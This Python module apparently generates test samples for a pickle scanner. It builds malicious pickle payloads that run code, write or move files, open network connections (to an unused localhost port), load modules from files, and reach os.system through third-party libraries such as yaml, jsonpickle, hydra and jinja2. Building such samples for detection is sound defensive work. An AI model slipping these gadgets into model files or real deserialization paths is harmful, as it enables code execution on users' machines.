"""p-gadget: callables that do harm under a harmless name.

Network gadgets speak to 127.0.0.1:9 only, where nothing listens, and are never run.
"""
from .assemble import *
from .sample import Shelf

shelf = Shelf("p-gadget")
add = shelf.add
WORDS = text(CODE)
NOTE = text(f"{MARKER}.txt")
HOST, URL = text("127.0.0.1"), text("http://127.0.0.1:9/x")


def one(module, name, *args):
    """A protocol-4 pickle of one call."""
    return PROTO4 + call(sg(module, name), *args) + STOP


# --- a string that is run as code -----------------------------------------------------------
for variant, args in {
        "runpy": ("runpy", "_run_code", WORDS, EMPTY_DICT),
        "cprofile": ("cProfile", "run", WORDS),
        "cprofile_ctx": ("cProfile", "runctx", WORDS, EMPTY_DICT, EMPTY_DICT),
        "profile": ("profile", "run", WORDS),
        "profile_class": ("profile", "Profile.run", call(sg("profile", "Profile")), WORDS),
        "timeit": ("timeit", "timeit", WORDS, text("pass"), sg("time", "perf_counter"),
                   integer(1)),
        "timeit_repeat": ("timeit", "repeat", text("pass"), WORDS, sg("time", "perf_counter"),
                          integer(1), integer(1)),
        "trace": ("trace", "Trace.run", call(sg("trace", "Trace"), integer(0), integer(0)), WORDS),
        "bdb": ("bdb", "Bdb.run", call(sg("bdb", "Bdb")), WORDS),
        "code": ("code", "InteractiveInterpreter.runcode",
                 call(sg("code", "InteractiveInterpreter")), WORDS),
        "code_push": ("code", "InteractiveConsole.push", call(sg("code", "InteractiveConsole")),
                      WORDS),
        "compiled": ("builtins", "exec", call(sg("builtins", "compile"), WORDS, text("x"),
                                              text("exec"))),
        "doctest": ("doctest", "debug_script", WORDS, TRUE, EMPTY_DICT)}.items():
    add("exec-string", variant, one(*args), f"{args[0]}.{args[1]} runs a string")
add("exec-string", "pdb", one("pdb", "run", WORDS), "pdb.run waits for a debugger command first",
    executes=False)

# --- files ----------------------------------------------------------------------------------
PATH = call(sg("pathlib", "Path"), NOTE)
for variant, args in {
        "write_text": ("pathlib", "Path.write_text", PATH, text("sample")),
        "write_bytes": ("pathlib", "Path.write_bytes", PATH, data(b"sample")),
        "open": ("builtins", "open", NOTE, text("w")),
        "io_open": ("io", "open", NOTE, text("w")),
        "codecs": ("codecs", "open", NOTE, text("w")),
        "fileio": ("_io", "FileIO", NOTE, text("w")),
        "logging": ("logging", "FileHandler", NOTE),
        "distutils": ("distutils.file_util", "write_file", NOTE, lst(text("sample")))}.items():
    add("file-write", variant, one(*args), f"{args[0]}.{args[1]} makes a file")
for variant, args in {
        "sqlite": ("sqlite3", "connect", NOTE),
        "shelve": ("shelve", "open", text(MARKER)),
        "gzip": ("gzip", "open", NOTE, text("wb")),
        "bz2": ("bz2", "open", NOTE, text("wb")),
        "lzma": ("lzma", "open", NOTE, text("wb")),
        "mkdir": ("os", "mkdir", NOTE),
        "symlink": ("os", "symlink", text("nowhere"), NOTE),
        "tempfile": ("tempfile", "mkstemp", text(".txt"), text(MARKER), text(".")),
        "zipfile": ("zipfile", "ZipFile", NOTE, text("w"))}.items():
    add("file-write-rare", variant, one(*args), f"{args[0]}.{args[1]} makes a file")
for variant, args in {
        "copyfile": ("shutil", "copyfile", text("model.bin"), NOTE),
        "rename": ("os", "rename", text("model.bin"), NOTE),
        "fileinput": ("fileinput", "input", text("model.bin"), TRUE),
        "tar_extract": ("tarfile", "TarFile.extractall", call(sg("tarfile", "open"),
                                                             text("model.tar"))),
        "memmap": ("numpy", "memmap", NOTE, text("uint8"), text("w+"), integer(0), integer(8)),
        "np_save": ("numpy", "save", NOTE, integer(1)),
        "tf_gfile": ("tensorflow.python.lib.io.file_io", "write_string_to_file", NOTE,
                     text("sample"))}.items():
    add("file-write-rare", variant, one(*args), f"{args[0]}.{args[1]} writes or moves files",
        executes=False)
for variant, args in {
        "linecache": ("linecache", "getlines", text("model.bin")),
        "codecs": ("codecs", "open", text("model.bin")),
        "difflib": ("difflib", "context_diff", call(sg("linecache", "getlines"),
                    text("model.bin")), EMPTY_LIST),
        "fromfile": ("numpy", "fromfile", text("model.bin")),
        "loadtxt": ("numpy", "loadtxt", text("model.bin"))}.items():
    add("file-read", variant, one(*args), f"{args[0]}.{args[1]} reads a file", executes=False)
add("file-read", "glob", one("glob", "glob", text("*")), "lists files", expected="suspicious")
add("file-read", "listdir", one("os", "listdir", text(".")), "lists files",
    expected="suspicious")

# --- network --------------------------------------------------------------------------------
for variant, args in {
        "socket": ("socket", "create_connection", tup(HOST, integer(9))),
        "urlopen": ("urllib.request", "urlopen", URL),
        "urlretrieve": ("urllib.request", "urlretrieve", URL, NOTE),
        "ssl": ("ssl", "get_server_certificate", tup(HOST, integer(9))),
        "smtp": ("smtplib", "SMTP", HOST, integer(9)),
        "imap": ("imaplib", "IMAP4", HOST, integer(9)),
        "ftp": ("ftplib", "FTP", HOST),
        "pop3": ("poplib", "POP3", HOST, integer(9)),
        "nntp": ("nntplib", "NNTP", HOST, integer(9)),
        "telnet": ("telnetlib", "Telnet", HOST, integer(9)),
        "webbrowser": ("webbrowser", "open", URL)}.items():
    add("network", variant, one(*args), f"{args[0]}.{args[1]} connects", executes=False,
        loader="none")
for variant, args in {
        "http": ("http.client", "HTTPConnection.connect",
                 call(sg("http.client", "HTTPConnection"), HOST, integer(9))),
        "xmlrpc": ("xmlrpc.client", "ServerProxy", URL),
        "requests": ("requests.api", "get", URL),
        "aiohttp": ("aiohttp", "request", text("GET"), URL),
        "read_csv": ("pandas", "read_csv", URL),
        "hub": ("torch.hub", "load_state_dict_from_url", URL),
        "get_file": ("keras.utils", "get_file", text("x"), URL),
        "fsspec": ("fsspec", "open", URL),
        "smart_open": ("smart_open", "open", URL)}.items():
    add("network-rare", variant, one(*args), f"{args[0]}.{args[1]} connects", executes=False,
        loader="none")

# --- code from files ------------------------------------------------------------------------
SIDE = text(f"{MARKER}.py")
LOADER = call(sg("importlib.machinery", "SourceFileLoader"), text("side"), SIDE)
add("import-gadget", "write_then_load",
    PROTO4 + call(sg("pathlib", "Path.write_text"), call(sg("pathlib", "Path"), SIDE), WORDS)
    + POP + call(sg("importlib.machinery", "SourceFileLoader.load_module"), LOADER) + STOP,
    "writes a module, then loads it")
for variant, args in {
        "source_loader": ("importlib.machinery", "SourceFileLoader.load_module", LOADER),
        "zipimport": ("zipimport", "zipimporter.load_module",
                      call(sg("zipimport", "zipimporter"), text("model.zip")), text("side")),
        "addsitedir": ("site", "addsitedir", text(".")),
        "addpackage": ("site", "addpackage", text("."), text("side.pth"), NONE),
        "run_path": ("runpy", "run_path", SIDE),
        "run_module": ("runpy", "run_module", text("side")),
        "imp": ("imp", "load_source", text("side"), SIDE),
        "unittest": ("unittest", "TestLoader.discover", call(sg("unittest", "TestLoader")),
                     text(".")),
        "pkg_resources": ("pkg_resources", "run_script", text("side"), text("side"))}.items():
    add("import-gadget", variant, one(*args), f"{args[0]}.{args[1]} runs code from a file",
        executes=False)

# --- other people's packages ----------------------------------------------------------------
SHELL = text(COMMAND)
for variant, args in {
        "mlflow": ("mlflow.projects.backend.local", "_run_entry_point", SHELL, text("."),
                   text("1"), text("1")),
        "ipython": ("IPython.utils.process", "system", SHELL),
        "pexpect": ("pexpect", "run", SHELL),
        "psutil": ("psutil", "Popen", lst(text("echo"), text(MARKER))),
        "hydra": ("hydra.utils", "instantiate", dic(text("_target_"), text("os.system"),
                  text("_args_"), lst(SHELL))),
        "hydra_method": ("hydra.utils", "get_method", text("os.system")),
        "yaml": ("yaml", "unsafe_load", text(f"!!python/object/apply:os.system ['{COMMAND}']")),
        "jsonpickle": ("jsonpickle", "decode", text('{"py/reduce": [{"py/function": "os.system"},'
                       f' {{"py/tuple": ["{COMMAND}"]}}]}}')),
        "pandas_eval": ("pandas", "eval", text(f"@print('{MARKER}')")),
        "pandas_pickle": ("pandas", "read_pickle", text("model.pkl")),
        "sympy": ("sympy", "sympify", text(f"print('{MARKER}')")),
        "six": ("six.moves.builtins", "exec", WORDS),
        "cffi": ("cffi", "FFI.dlopen", call(sg("cffi", "FFI")), text("libside.so")),
        "numba": ("numba.core.serialize", "_unpickle__CustomPickled", data(evil())),
        "fabric": ("invoke", "run", SHELL),
        "django": ("django.template", "Template", text("{% load side %}")),
        "jinja2": ("jinja2", "Template.render", call(sg("jinja2", "Template"),
                   text("{{ cycler.__init__.__globals__.os.getpid() }}"))),
        "setuptools": ("setuptools._distutils.spawn", "spawn", lst(text("echo"), text(MARKER))),
        "tensorizer": ("tensorizer.stream_io", "open_stream", NOTE, text("wb"))}.items():
    add("thirdparty-gadget", variant, one(*args),
        f"{args[0]}.{args[1]}: does its work where the package is installed", executes=False,
        loader="none")
